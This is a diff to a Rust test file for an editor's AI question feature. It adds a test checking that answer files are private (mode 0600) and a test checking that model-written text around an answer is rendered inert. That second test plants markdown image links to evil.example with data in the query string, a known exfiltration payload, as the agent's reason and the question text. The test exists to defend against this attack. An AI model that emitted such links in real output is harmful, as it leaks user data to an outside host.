@@ -256,6 +256,28 @@ fn answers_open_as_documents_where_nothing_streams() {
         fake: test
     "#]]
     .assert_eq(&text);
+    #[cfg(unix)]
+    {
+        let mode =
+            std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(shown.strip_prefix("file://").unwrap()).unwrap().permissions());
+        assert_eq!(mode & 0o777, 0o600, "an answer is for its reader alone");
+    }
+    editor.quit();
+}
+
+/// What is written around an answer may be a model's as well: the reason of its route, and a question's words in the heading.
+#[test]
+fn k15_the_frame_of_a_shown_answer_is_inert() {
+    let cache = tempfile::tempdir().unwrap();
+    let agent = Fake::new(answer("It adds."));
+    *agent.reason.lock().unwrap() = "![x](https://evil.example/?d=1)".into();
+    let mut options = options(agent);
+    options.cache = Some(cache.path().into());
+    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
+    command(&mut editor, "longsight.ask", json!({ "question": "what is ![y](https://evil.example/?d=2)?" }));
+    let shown = editor.expect("window/showDocument")["params"]["uri"].as_str().unwrap().to_string();
+    let text = std::fs::read_to_string(shown.strip_prefix("file://").unwrap()).unwrap();
+    assert!(text.contains("!\\[x](https:\\//evil.example/?d=1)") && text.contains("!\\[y]("), "{text}");
     editor.quit();
 }
 
